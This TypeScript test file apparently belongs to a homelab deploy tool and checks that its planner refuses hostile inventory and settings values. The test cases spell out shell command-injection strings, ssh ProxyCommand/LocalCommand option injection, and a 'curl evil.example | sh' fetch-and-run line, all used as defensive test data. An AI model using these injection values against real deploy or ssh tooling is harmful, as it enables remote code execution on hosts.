// Hostile inventory and settings values, for every field of every method: each
// is refused before anything runs, with an error naming the container and the
// field. Values that are accepted stay exactly one argument word, through a
// local program and through a POSIX shell (the remote side of ssh).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { formatPlan, planDeploy, SETTINGS } from '../../client/src/deploy/plan';
import { shellJoin } from '../../client/src/deploy/quote';
import { runDeploy } from '../../client/src/deploy/runner';
import {
  DEPLOY_METHODS, type DeployConfig, type DeployEvent, type DeployMethod, type DeployTarget, type PlanOptions,
} from '../../client/src/deploy/types';

const PWN = '/tmp/pwned-homelab-deploy';
const fixtures = path.join(__dirname, '..', 'fixtures', 'deploy');
const opts: PlanOptions = { workspaceFolder: fixtures };

function pwnedFiles(): string[] {
  return fs.readdirSync('/tmp').filter((f) => f.startsWith('pwned'));
}
let pwnedBefore: string[] = [];
before(() => {
  for (const f of fs.readdirSync('/tmp')) if (f.startsWith('pwned-homelab-deploy')) fs.rmSync(path.join('/tmp', f), { force: true });
  pwnedBefore = pwnedFiles();
});

function good(method: DeployMethod): DeployTarget {
  return {
    name: 'LXC_ok', ip: '192.168.8.85', host: 'pve',
    deploy: {
      method, user: 'akunito', dotfilesDir: '/home/akunito/.dotfiles', command: './install.sh {dir} {profile}',
      sshOptions: ['-o', 'ConnectTimeout=10'], parallel: 1, branch: 'main',
    },
  };
}

type Case = { field: string; value: unknown; apply: (t: DeployTarget, v: unknown) => void; methods?: DeployMethod[] };
const cases: Case[] = [];
const on = (field: string, values: unknown[], apply: Case['apply'], methods?: DeployMethod[]): void => {
  for (const value of values) cases.push({ field, value, apply, methods });
};
const setDeploy = (k: keyof DeployConfig) => (t: DeployTarget, v: unknown): void => {
  (t.deploy as unknown as Record<string, unknown>)[k] = v;
};

on('ip', [
  '1.2.3.4; rm -rf ~', '$(reboot)', '`reboot`', `-oProxyCommand=touch ${PWN}-ip`, '127.0.0.1\nreboot', '127.0.0.1 -p 1',
  '127.1', '0x7f.0.0.1', '010.0.0.1', 'fe80::1%eth0', '192.168.8.85/24', 'host.example.com', '', ' 127.0.0.1', 42,
], (t, v) => { t.ip = v as string; });
on('name', [
  `-oProxyCommand=touch ${PWN}-name`, 'a;b', '$(id)', 'a b', '../etc', 'a\nb', '.hidden', "a'b", 'a"b', 'x`id`', '-', '',
], (t, v) => { t.name = v as string; });
on('profile', [`a'b`, 'a"b', `x'; touch ${PWN}-profile; '`, '-oProxyCommand=x', '{dir}', 'a/b'], (t, v) => { t.profileName = v as string; });
on('host', ['pve;reboot', '-x', '$(id)', 'pve host', 'pve\n'], (t, v) => { t.host = v as string; });
on('deploy.user', [
  '-F/etc/x', 'a b', 'root;id', '$(id)', 'u\nx', 'akunito@evil', "x'y", '-oProxyCommand=x', '', '9user', 'x'.repeat(40),
], setDeploy('user'));
on('deploy.dotfilesDir', [
  '/home/a;b', '/home/`id`', '/home/a\nb', 'relative/dir', '/home/$(id)', '/home/a b', '/home/../etc', '-/x',
  "/home/a'b", '~/dots', '/home/a"b', '/home/a|b', '/home/a&b', '/home/*', '',
], setDeploy('dotfilesDir'));
on('deploy.branch', [
  '-f', `main; touch ${PWN}-branch`, 'main..x', '$(id)', 'a b', 'x/../y', 'a\n', 'main.lock', '/main', 'a@{1}', '',
], setDeploy('branch'));
on('deploy.command', [
  './install.sh; curl evil.example | sh', `./install.sh && touch ${PWN}-cmd`, 'echo $(id)', 'echo `id`',
  `echo > ${PWN}-cmd`, 'echo a\nreboot', 'echo {nope}', "echo 'unterminated", '-oProxyCommand=x', '', '   ',
  'echo \\; x', '# comment', 'echo ~', 'echo *', 'echo a|b', 'x &', '{dir', 'echo "a\tb"', 'echo ${HOME}',
], setDeploy('command'), ['ssh-script', 'command']);
on('deploy.sshOptions[0]', [
  [`-oProxyCommand=touch ${PWN}-sshopt`], ['-oLocalCommand=touch x'], ['-F/etc/x'], ['-Jx'], ['-v'],
  ['notanoption'], ['-oIdentityFile=$(id)'], ['-o ProxyCommand=x'], ['-o'], [42],
], setDeploy('sshOptions'));
on('deploy.sshOptions[1]', [
  ['-o', `ProxyCommand=touch ${PWN}-sshopt2`], ['-o', 'PermitLocalCommand=yes'], ['-o', 'LocalCommand=id'],
  ['-o', 'ProxyJump=-oProxyCommand=x'], ['-o', 'ProxyJump=a b'], ['-o', 'ProxyJump=evil;id'], ['-o', 'BatchMode=no'],
  ['-o', 'Port=22;id'], ['-p', '22 -oProxyCommand=x'], ['-i', '/tmp/k -oX=y'], ['-o', 'Include=/etc/x'],
  ['-o', 'KnownHostsCommand=/bin/x'], ['-o', 'User=root'], ['-o', 'Match=exec x'], ['-o', 'RemoteCommand=id'],
  ['-o', 'ControlPath=/tmp/x'], ['-o', 'SendEnv=*'], ['-o', 'StrictHostKeyChecking=maybe'], ['-p', '0'],
  ['-o', '-oProxyCommand=x'], ['-i', '-oProxyCommand=x'], ['-o', 'ConnectTimeout=10\nProxyCommand x'],
], setDeploy('sshOptions'));
on('deploy.parallel', [0, -1, 1.5, '2', 1000], setDeploy('parallel'));
on('deploy.method', ['shell', 'ssh-script; id', '', null], setDeploy('method'));

for (const method of DEPLOY_METHODS) {
  test(`${method}: every hostile value is refused, naming the field`, () => {
    let tried = 0;
    for (const c of cases) {
      if (c.methods && !c.methods.includes(method)) continue;
      const t = good(method);
      c.apply(t, c.value);
      const r = planDeploy([t], opts);
      const label = `${c.field} = ${JSON.stringify(c.value)}`;
      assert.equal(r.ok, false, `accepted ${label}`);
      if (r.ok) continue;
      assert.ok(r.issues.length > 0, label);
      for (const i of r.issues) {
        assert.equal(i.field, c.field, `${label}: issue names ${i.field}: ${i.message}`);
        assert.equal(i.machine, String(t.name), label);
        assert.ok(i.message.length > 10, label);
      }
      tried++;
    }
    assert.ok(tried >= 100, `only ${tried} cases`);
  });
}

test('hostile settings are refused, naming the setting', () => {
  const bad: [Partial<PlanOptions>, string][] = [
    [{ sshOptions: [`-oProxyCommand=touch ${PWN}-setting`] }, 'homelab.deploy.sshOptions[0]'],
    [{ sshOptions: ['-o', 'LocalCommand=id'] }, 'homelab.deploy.sshOptions[1]'],
    [{ sshCommand: 'ssh -oProxyCommand=x' }, 'homelab.deploy.sshCommand'],
    [{ sshCommand: 'ssh;id' }, 'homelab.deploy.sshCommand'],
    [{ sshCommand: '-oProxyCommand=x' }, 'homelab.deploy.sshCommand'],
    [{ sshCommand: '$(id)' }, 'homelab.deploy.sshCommand'],
    [{ connectTimeout: 1.5 }, 'homelab.deploy.connectTimeout'],
  ];
  for (const [o, field] of bad) {
    const r = planDeploy([good('ssh-script')], { ...opts, ...o });
    assert.ok(!r.ok, JSON.stringify(o));
    assert.deepEqual(r.issues.map((i) => [i.machine, i.field]), [[SETTINGS, field]], JSON.stringify(o));
  }
});

test('ssh options that are allowed are passed as they are, never as a shell string', () => {
  const t = good('ssh-script');
  t.deploy.sshOptions = [
    '-o', 'Port=2222', '-oServerAliveInterval=15', '-p2200', '-i', '~/.ssh/id_homelab', '-o', 'ProxyJump=admin@bastion.lan:2222,10.0.0.1',
    '-o', 'UserKnownHostsFile=/etc/homelab/known_hosts', '-o', 'StrictHostKeyChecking=accept-new', '-o', 'IdentitiesOnly=yes',
  ];
  const r = planDeploy([t], opts);
  assert.ok(r.ok, r.ok ? '' : JSON.stringify(r.issues));
  const argv = r.plan.units[0].steps[0].argv;
  assert.deepEqual(argv.slice(3, 19), [
    '-o', 'Port=2222', '-o', 'ServerAliveInterval=15', '-p', '2200', '-i', '~/.ssh/id_homelab',
    '-o', 'ProxyJump=admin@bastion.lan:2222,10.0.0.1', '-o', 'UserKnownHostsFile=/etc/homelab/known_hosts',
    '-o', 'StrictHostKeyChecking=accept-new', '-o', 'IdentitiesOnly=yes',
  ]);
  const dest = argv.indexOf('--');
  assert.equal(argv[dest + 1], 'akunito@192.168.8.85');
  assert.equal(argv.length, dest + 3, 'nothing after the destination but the remote command');
});

test('odd but valid values stay one word each through a real program (command method)', async () => {
  const echo = path.join(fixtures, 'echo-args.mjs');
  const t: DeployTarget = {
    name: 'a.b-c_d', ip: 'fd00::1', host: 'pve-1.lan',
    deploy: {
      method: 'command', user: '_svc.x-1', dotfilesDir: '/srv/dots+x/@a,b:c=d%e',
      command: `"${echo}" {dir} {profile} {ip} {user} {host} "two words" 'say "hi"' "it's" --flag={profile} "" x{ip}y`,
    },
  };
  const r = planDeploy([t], opts);
  assert.ok(r.ok, r.ok ? '' : JSON.stringify(r.issues));
  const expected = [
    '/srv/dots+x/@a,b:c=d%e', 'a.b-c_d', 'fd00::1', '_svc.x-1', 'pve-1.lan', 'two words', 'say "hi"', "it's",
    '--flag=a.b-c_d', '', 'xfd00::1y',
  ];
  assert.deepEqual(r.plan.units[0].steps[0].argv.slice(1), expected);
  let out = '';
  const summary = await runDeploy(r.plan, {
    onEvent: (e: DeployEvent) => { if (e.type === 'output' && e.stream === 'stdout') out += e.text; },
  });
  assert.equal(summary.results[0].status, 'succeeded', summary.results[0].message);
  assert.deepEqual(JSON.parse(out), expected);
});

test('POSIX quoting keeps every word intact through sh and bash (the remote side of ssh)', () => {
  const words = [
    `'`, `''`, `it's`, `"`, `$(touch ${PWN}-quote)`, `\`touch ${PWN}-quote2\``, '$HOME', '${HOME}', '\\', '\\\'',
    'a\nb', ';', '&&', '|', '*', '~', '!', '#x', ' lead', 'trail ', '', '-n', '-e', '%s', 'ünï©ødé', 'a\tb', "'\\''",
  ];
  for (const shell of ['/bin/sh', '/bin/bash']) {
    if (!fs.existsSync(shell)) continue;
    const r = spawnSync(shell, ['-c', `printf '%s\\0' ${shellJoin(words)}`], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(r.stdout.split('\0').slice(0, -1), words, shell);
  }
});

after(() => {
  const now = pwnedFiles().filter((f) => !pwnedBefore.includes(f));
  assert.deepEqual(now, [], 'a hostile value created a file in /tmp');
  assert.ok(!fs.existsSync(`${PWN}-quote`) && !fs.existsSync(`${PWN}-cmd`));
});

test('a dry run (the plan) runs nothing, even for a command that would write a file', () => {
  const t = good('command');
  t.deploy.command = `touch ${PWN}-dry {profile}`;
  const r = planDeploy([t], opts);
  assert.ok(r.ok);
  assert.deepEqual(r.plan.units[0].steps[0].argv, ['touch', `${PWN}-dry`, 'LXC_ok']);
  assert.deepEqual(formatPlan(r.plan, ['LXC_ok']), [`LXC_ok (192.168.8.85) — command:`, `  touch ${PWN}-dry ***`]);
  assert.ok(!fs.existsSync(`${PWN}-dry`));
});
